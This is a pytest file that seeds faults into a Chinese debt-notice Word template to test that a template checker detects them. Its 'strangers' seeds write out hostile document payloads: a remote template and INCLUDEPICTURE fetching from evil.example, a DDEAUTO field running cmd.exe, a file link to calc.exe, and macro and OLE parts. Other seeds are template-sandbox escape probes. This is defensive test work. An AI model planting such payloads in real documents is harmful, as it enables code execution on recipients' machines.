"""Eighty faults put into the notice, one at a time: each found, named, and shown in the paragraph where it stands.

A fault is a replacement in one part of the sample, as a hand that slips in Word would make it. The samples
themselves give no alarm, and neither does a file with all that Word, WPS and other hands leave in templates.
"""

# ruff: noqa: E501 - a fault stands on one line
from __future__ import annotations

import io
from typing import NamedTuple

import pytest
from docx import Document
from docx.enum.section import WD_SECTION
from docx.oxml import parse_xml

from app.letters import FieldNames, check_template, compile_template
from app.letters.annotate import annotate
from app.messages import advice, message
from tests.letters.checking import check
from tests.letters.made import NOTICE, VALUES, letter_values, members, rebuilt, template, text_of
from tests.letters.word import R_SPACE, W_SPACE, field, p, run, tbl, tr

BODY, HEADER, RELS, TYPES = (
    "word/document.xml",
    "word/header1.xml",
    "word/_rels/document.xml.rels",
    "[Content_Types].xml",
)
CORE, SETTINGS = "docProps/core.xml", "word/settings.xml"
GIVEN = letter_values()
FIELDS = FieldNames(
    frozenset(GIVEN) - {"明细", "合计", "各笔"},
    {"明细": frozenset(GIVEN["明细"][0]), "合计": frozenset(GIVEN["合计"]), "各笔": frozenset(GIVEN["各笔"])},
    frozenset(["明细"]),
)


class Seed(NamedTuple):
    old: str
    new: str
    code: str
    quoted: str = ""
    """Part of the paragraph that the finding shows; empty: it is about the file."""
    part: str = BODY


THANKS = "特此通知。"


def beside(markup: str) -> str:
    """A replacement for the sentence 特此通知 that leaves it and adds markup after its paragraph."""
    return f"{THANKS}</w:t></w:r></w:p>{markup}<w:p><w:r><w:t>"


def inside(markup: str) -> str:
    """The same, in the paragraph itself."""
    return f"{THANKS}</w:t></w:r>{markup}<w:r><w:t>"


def link(kind: str, target: str, mode: str = ' TargetMode="External"') -> tuple[str, str]:
    entry = f'<Relationship Id="rIdX" Type="{R_SPACE}/{kind}" Target="{target}"{mode}/>'
    return "</Relationships>", f"{entry}</Relationships>"


def typed(part: str, kind: str) -> tuple[str, str]:
    return "</Types>", f'<Override PartName="/{part}" ContentType="{kind}"/></Types>'


NAME, LOOP, ENDS, ROW = "{{ 客户名称 }}（证件", "{%tr for 笔 in 明细 %}", "{%tr endfor %}", "{{ 笔.合同编号 }}"
IF, FI = "{%p if 各笔.保证人 %}", "{%p endif %}"
OF_NAME, OF_DATE = "证件号码：{{ 证件号码 }}", "尚欠款项如下"

SEEDS = {
    # --- tags
    "a tag without its end": Seed(NAME, "{{ 客户名称 （证件", "tag-unclosed", OF_NAME),
    "a tag without its beginning": Seed(NAME, "客户名称 }}（证件", "tag-unopened", OF_NAME),
    "one closing brace": Seed(NAME, "{{ 客户名称 }（证件", "tag-unclosed", OF_NAME),
    "one brace at each end": Seed(NAME, "{客户名称}（证件", "single-brace", OF_NAME),
    "the placeholder of another program": Seed(NAME, "«客户名称»（证件", "other-placeholder", OF_NAME),
    "a brace and a percent sign": Seed(IF, "{%p if 保证人 }", "tag-unclosed", "{%p if 保证人 }"),
    "full-width braces": Seed(NAME, "｛｛ 客户名称 ｝｝（证件", "full-width-brace", OF_NAME),
    "one full-width brace": Seed(NAME, "{{ 客户名称 }｝（证件", "full-width-brace", OF_NAME),
    "a full-width percent sign": Seed(IF, "{％p if 保证人 %}", "full-width-brace", "保证人"),
    "a full-width bar": Seed("{{ 客户经理|空白 }}", "{{ 客户经理｜空白 }}", "full-width-in-tag", "联系人"),
    "a full-width point": Seed(ROW, "{{ 笔．合同编号 }}", "full-width-in-tag", "合同编号"),
    "full-width brackets": Seed("{{ 客户经理|空白 }}", "{{ 客户经理|空白（8） }}", "full-width-in-tag", "联系人"),
    "a tag over two paragraphs": Seed(
        NAME, "{{ 客户</w:t></w:r></w:p><w:p><w:r><w:t>名称 }}（证件", "tag-over-paragraphs", "{{ 客户"),
    "a tag across a link": Seed(
        THANKS, inside(f'{run("{{ 客户")}<w:hyperlink w:anchor="x">{run("名称 }}")}</w:hyperlink>'),
        "tag-over-structure", THANKS),
    "a tag across a field": Seed(
        THANKS, inside(f'{run("{{ 客户")}<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                       '<w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
                       f'{run("名称 }}")}'), "tag-over-structure", THANKS),
    "an empty tag": Seed(NAME, "{{ }}（证件", "tag-empty", OF_NAME),
    "a tag as long as a letter": Seed(NAME, "{{ " + "客户名称 ~ " * 50 + "客户名称 }}（证件", "tag-too-long", "客户名称 ~"),
    "an invisible character": Seed(NAME, "{{ 客户\u200b名称 }}（证件", "tag-invisible-character", OF_NAME),
    "a space in a name": Seed(NAME, "{{ 客户 名称 }}（证件", "tag-syntax", OF_NAME),
    "two bars": Seed("{{ 客户经理|空白 }}", "{{ 客户经理||空白 }}", "tag-syntax", "联系人"),
    "an open quotation": Seed("默认('无')", "默认('无)", "tag-syntax", "默认"),
    "a tag in a remark": Seed(THANKS, "{# 问法规部 {{ 客户名称 }} #}", "tag-in-comment", "问法规部"),
    "a tag in a description": Seed(
        THANKS, inside('<w:r><w:drawing><wp:docPr id="9" name="图" descr="{{ 客户名称 }}"/></w:drawing></w:r>'),
        "tag-misplaced", "{{ 客户名称 }}"),
    "a tag in a field code": Seed(
        THANKS, inside('<w:fldSimple w:instr=" REF {{ 客户名称 }} "/>'), "tag-misplaced", "REF"),
    "a tag in a control that Word fills": Seed(
        THANKS, beside(f"<w:sdt><w:sdtPr><w:dataBinding/></w:sdtPr><w:sdtContent>{p('{{ 客户名称 }}')}"
                       "</w:sdtContent></w:sdt>"), "tag-in-bound-control", "{{ 客户名称 }}"),
    "a tag in a header without its end": Seed("{{ 文号 }}", "{{ 文号 }", "tag-unclosed", "{{ 文号 }", HEADER),
    "a tag in the title without its end": Seed(
        "</cp:coreProperties>", '<dc:title xmlns:dc="http://purl.org/dc/elements/1.1/">{{ 文号</dc:title>'
        "</cp:coreProperties>", "tag-unclosed", "{{ 文号", CORE),
    # --- blocks
    "a condition without its end": Seed(FI, "", "block-unclosed", IF),
    "an end without its condition": Seed(IF, "", "block-unopened", FI),
    "a loop without its end": Seed(ENDS, "", "block-unclosed", LOOP),
    "crossed blocks": Seed(
        THANKS, "{% if 保证人 %}{% for 笔 in 明细 %}{% endif %}{% endfor %}", "block-crossed", "{% endif %}"),
    "else twice": Seed(THANKS, "{% if 保证人 %}{% else %}{% else %}{% endif %}", "block-else-alone", "{% else %}"),
    "else alone": Seed(THANKS, "{% else %}", "block-else-alone", "{% else %}"),
    "beginning and end of two kinds": Seed(FI, "{% endif %}", "block-mixed", "{% endif %}"),
    "a loop across cells": Seed(
        THANKS, beside(tbl(tr("{% for 笔 in 明细 %}", "{{ 笔.合同编号 }}", "{% endfor %}"))), "block-over-cells", "for 笔"),
    "a loop into the next table": Seed(
        THANKS, beside(tbl(tr("{%tr for 笔 in 明细 %}")) + p("") + tbl(tr("{%tr endfor %}"))), "block-over-cells", "for 笔"),
    "a row tag in the data row": Seed(ROW, LOOP + ROW, "row-tag-in-data-row", LOOP + ROW),
    "a row tag outside a table": Seed(THANKS, "{%tr if 保证人 %}", "row-tag-outside-table", "{%tr if"),
    "a paragraph tag beside text": Seed(IF, IF + "保证人：", "paragraph-tag-with-text", IF),
    "a prefix apart": Seed(LOOP, "{% tr for 笔 in 明细 %}", "prefix-apart", "{% tr for"),
    "a prefix that prints": Seed(ROW, "{{tr 笔.合同编号 }}", "print-prefix", "{{tr"),
    "a cell tag beside text": Seed(
        THANKS, beside(tbl(tr("{%tc for 笔 in 明细 %}甲", "x", "{%tc endfor %}"))), "cell-tag-with-text", "甲"),
    "a merging word outside a cell": Seed(THANKS, "{% vm %}", "cell-needed", "{% vm %}"),
    "a condition out of a link": Seed(
        THANKS, inside(f'<w:hyperlink w:anchor="x">{run("{% if 保证人 %}甲")}</w:hyperlink>{run("{% endif %}")}'),
        "block-breaks-structure", "甲"),
    "a word misspelled": Seed(IF, "{%p fi 保证人 %}", "statement-unknown-like", "{%p fi"),
    "a word in Chinese": Seed(IF, "{%p 如果 保证人 %}", "statement-unknown", "如果"),
    "five loops deep": Seed(THANKS, "{% for a in 明细 %}" * 5 + "{% endfor %}" * 5, "loops-too-deep", "for a"),
    "a dash that drops words": Seed(THANKS, "特此{%- if 保证人 %}通知{% endif %}。", "dash-drops-text", "特此"),
    "a dash that drops the rest": Seed(THANKS, "特此{% if 保证人 %}通知{% endif -%}。", "dash-drops-text", "特此"),
    "a dash across a table": Seed(
        THANKS, beside(tbl(tr("{%tr if 保证人 %}"), tr("x"), tr("{%tr endif %}")) + p("{%- if 保证人 %}甲{% endif %}")),
        "dash-over-structure", "甲"),
    # --- expressions
    "a filter misspelled": Seed("合计.欠款合计|大写", "合计.欠款合计|大些", "filter-unknown-like", "大些"),
    "a filter unheard of": Seed("合计.欠款合计|大写", "合计.欠款合计|xyz", "filter-unknown", "xyz"),
    "a filter with too much": Seed("合计.欠款合计|大写", "合计.欠款合计|大写(1, 2)", "filter-arguments", "大写(1, 2)"),
    "a call": Seed(NAME, "{{ 客户名称.strip() }}（证件", "call-refused", OF_NAME),
    "a power": Seed("{{ 履行期限天数 }}", "{{ 10**50000000 }}", "power-refused", "10**50000000"),
    "an assignment": Seed(THANKS, "{% set x = 1 %}", "statement-refused", "set x"),
    "an inclusion": Seed(THANKS, "{% include 'x' %}", "statement-refused", "include"),
    "a Python attribute": Seed(NAME, "{{ 客户名称.__class__ }}（证件", "name-refused", OF_NAME),
    "a test unheard of": Seed(IF, "{%p if 保证人 is 空 %}", "test-unknown", "is 空"),
    # --- fields
    "a field misspelled": Seed(NAME, "{{ 客户姓名 }}（证件", "field-unknown-like", OF_NAME),
    "a field unheard of": Seed(NAME, "{{ XYZ }}（证件", "field-unknown", OF_NAME),
    "an attribute of a loop misspelled": Seed(ROW, "{{ 笔.合同号 }}", "attribute-unknown-like", "笔.合同号"),
    "an attribute of the totals unheard of": Seed("{{ 合计.费用 }}", "{{ 合计.XYZ }}", "attribute-unknown", "合计.XYZ"),
    "a list misspelled": Seed(LOOP, "{%tr for 笔 in 明系 %}", "field-unknown-like", "明系"),
    "a condition on a field misspelled": Seed(IF, "{%p if 保证 %}", "field-unknown-like", "{%p if 保证 %}"),
    "a row's field outside a loop": Seed(THANKS, "{{ 明细.合同编号 }}", "list-not-looped", "{{ 明细.合同编号 }}"),
    "a condition on a row's field outside a loop": Seed(THANKS, "{% if 明细.费用 > 0 %}甲{% endif %}", "list-not-looped", "明细.费用"),
    "all the totals at once": Seed(THANKS, "{{ 合计 }}", "record-whole", "{{ 合计 }}"),
    "a whole row": Seed(ROW, "{{ 笔 }}", "record-whole", "{{ 笔 }}"),
    "a loop over the totals": Seed(THANKS, "{% for x in 合计 %}甲{% endfor %}", "record-whole", "for x in 合计"),
    "a loop variable outside its loop": Seed(THANKS, "{{ 笔.合同编号 }}", "field-unknown-like", "{{ 笔.合同编号 }}"),
    # --- strangers
    "a remote template": Seed(*link("attachedTemplate", "https://evil.example/t.dotm"), "template-link", part=RELS),
    "a picture from outside": Seed(*link("image", "https://evil.example/a.png"), "external-image", part=RELS),
    "an embedded object": Seed(
        THANKS, inside('<w:r><w:object><o:OLEObject ProgID="Package"/></w:object></w:r>'), "embedded-object", THANKS),
    "outside content": Seed(THANKS, beside('<w:altChunk r:id="rIdX"/>'), "alt-chunk"),
    "a macro file": Seed(*typed("word/header1.xml", "application/vnd.ms-office.vbaProject"), "macro", part=TYPES),
    "a program behind a link": Seed(*link("hyperlink", "file:///C:/calc.exe"), "link-refused", part=RELS),
    "a data exchange": Seed(THANKS, beside(field('DDEAUTO c:\\\\cmd.exe "/k calc"', "结果")), "field-refused", "结果"),
    "text from a file": Seed(THANKS, beside(field('INCLUDETEXT "c:\\\\x.txt"', "正文")), "field-refused", "正文"),
    "a picture from an address": Seed(
        THANKS, inside('<w:fldSimple w:instr="INCLUDEPICTURE http://evil.example/a.png"/>'), "field-refused", THANKS),
    "a mail merge field": Seed(THANKS, beside(field("MERGEFIELD 客户名称", "«客户名称»")), "field-mail-merge", "«客户名称»"),
    "a date that changes": Seed(THANKS, beside(field("DATE \\@ yyyy年M月d日", "今天")), "field-changing-date", "今天"),
    "a data source": Seed("</w:settings>", "<w:mailMerge/></w:settings>", "mail-merge", part=SETTINGS),
    # --- what earlier work left
    "a tracked change": Seed(
        THANKS, inside('<w:del w:id="9" w:author="x"><w:r><w:delText>旧文字</w:delText></w:r></w:del>'),
        "tracked-changes", THANKS),
    "hidden text": Seed(THANKS, inside("<w:r><w:rPr><w:vanish/></w:rPr><w:t>内部备注</w:t></w:r>"), "hidden-text", "内部备注"),
    "an earlier customer's id": Seed(THANKS, "证件 11010519491231002X。", "id-number", "证件 110***********002X"),
    "an earlier customer's telephone": Seed(THANKS, "电话 13912345678。", "mobile-number", "电话 139****5678"),
    "an id in a deletion": Seed(
        THANKS, inside('<w:del w:id="9" w:author="x"><w:r><w:delText>11010519491231002X</w:delText></w:r></w:del>'),
        "id-number", "110***********002X"),
}  # fmt: skip


def seeded(seed: Seed) -> bytes:
    data = template(NOTICE)
    text = members(data)[seed.part].decode()
    assert seed.old in text
    return rebuilt(data, {seed.part: text.replace(seed.old, seed.new, 1).encode()})


@pytest.mark.parametrize("name", SEEDS)
def test_a_fault_is_found_named_and_shown(name):
    seed = SEEDS[name]
    found = [one for one in check(seeded(seed), FIELDS) if one.code == f"letters.{seed.code}"]
    assert found
    assert any(seed.quoted in one.place.paragraph for one in found)


@pytest.mark.parametrize("name", [name for name, seed in SEEDS.items() if seed.part == BODY])
def test_a_fault_of_the_body_can_be_shown_in_the_template_itself(name):
    data = seeded(SEEDS[name])
    if SEEDS[name].code in ("embedded-object", "alt-chunk"):
        return  # not handed out again, see test_annotate
    said = [(one, message(one) + advice(one)) for one in check_template(data, NOTICE, FIELDS)]
    made = Document(io.BytesIO(annotate(data, NOTICE, said)))
    assert sorted({line for comment in made.comments for line in comment.text.splitlines()}) == sorted(
        {text for _, text in said}
    )


def test_there_are_as_many_faults_as_promised():
    assert len(SEEDS) >= 60
    assert len({seed.code for seed in SEEDS.values()}) >= 50


@pytest.mark.parametrize("name", VALUES)
def test_the_samples_give_no_alarm(name):
    assert check_template(template(name), name) == ()


def from_other_hands() -> bytes:
    """All that Word, WPS and people leave in a template that is in order."""
    document = Document()
    document.core_properties.title = "{{ 文号 }}"
    section = document.sections[0]
    section.different_first_page_header_footer = True
    section.first_page_header.paragraphs[0].text = "首页 {{ 债权人名称 }}"
    section.header.paragraphs[0].text = "{{ 债权人名称 }}\t{{ 文号 }}"
    section.footer.paragraphs[0].text = "{ } 50%，第 1 页"
    split = document.add_paragraph()
    for piece in ("致：{", "{ 客户", "名称 ", "}", "}（{{ 证件号码", "|空白 }}）"):
        split.add_run(piece).bold = len(piece) % 2 == 0
    split._p.insert(2, parse_xml(f'<w:proofErr xmlns:w="{W_SPACE}" w:type="spellStart"/>'))
    split._p.insert(3, parse_xml(f'<w:bookmarkStart xmlns:w="{W_SPACE}" w:id="1" w:name="_GoBack"/>'))
    split._p.append(parse_xml(f'<w:bookmarkEnd xmlns:w="{W_SPACE}" w:id="1"/>'))
    smart = (
        f'<w:smartTag xmlns:w="{W_SPACE}" w:uri="urn:x" w:element="date"><w:smartTagPr/>{run("业务日期")}</w:smartTag>'
    )
    dated = document.add_paragraph("截至{{ ")
    dated._p.append(parse_xml(smart))
    dated.add_run(" }}止。")
    for markup in (
        f"<w:sdt><w:sdtPr><w:alias w:val='名称'/></w:sdtPr><w:sdtContent>{p('{{ 机构名称 }}')}</w:sdtContent></w:sdt>",
        f"<w:p><w:r><w:pict><w:txbxContent>{p('框：{{ 文号 }}')}</w:txbxContent></w:pict></w:r></w:p>",
        f"<w:p>{run('见')}<w:hyperlink w:anchor='附件'>{run('{{ 文号 }}')}</w:hyperlink>{run('附件')}</w:p>",
        field(" PAGE \\* MERGEFORMAT "),
    ):
        wrapped = parse_xml(f'<w:x xmlns:w="{W_SPACE}">{markup}</w:x>')
        for element in list(wrapped):
            document.element.body.insert(len(document.element.body) - 1, element)
    outer = document.add_table(rows=4, cols=2)
    outer.cell(0, 0).merge(outer.cell(0, 1)).text = "明细"
    outer.cell(1, 0).merge(outer.cell(1, 1)).text = "{%tr for 笔 in 明细 %}"
    outer.cell(2, 0).text = "{{ loop.index }}.{{ 笔.合同编号 }}"
    inner = outer.cell(2, 1).add_table(rows=1, cols=1)
    inner.cell(0, 0).text = "{{ 笔.贷款余额 }}"
    outer.cell(3, 0).merge(outer.cell(3, 1)).text = "{%tr endfor %}"
    document.add_section(WD_SECTION.NEW_PAGE).footer.is_linked_to_previous = False
    document.add_paragraph("保证：")
    document.add_paragraph("{%- if 保证人 %}保证人{{ 保证人 }}")
    document.add_paragraph("{%- endif %}，费用 100%。")
    saved = io.BytesIO()
    document.save(saved)
    return saved.getvalue()


def test_a_template_from_other_hands_gives_no_alarm_and_renders():
    data = from_other_hands()
    assert check(data, FIELDS) == ()
    text = text_of(compile_template(data, "t.docx").render(letter_values()))
    assert "致：陈建良（990829196805057143）" in text
    assert "截至2026年9月30日止。" in text
    assert "386,425.31" in text
    assert "{{" not in text
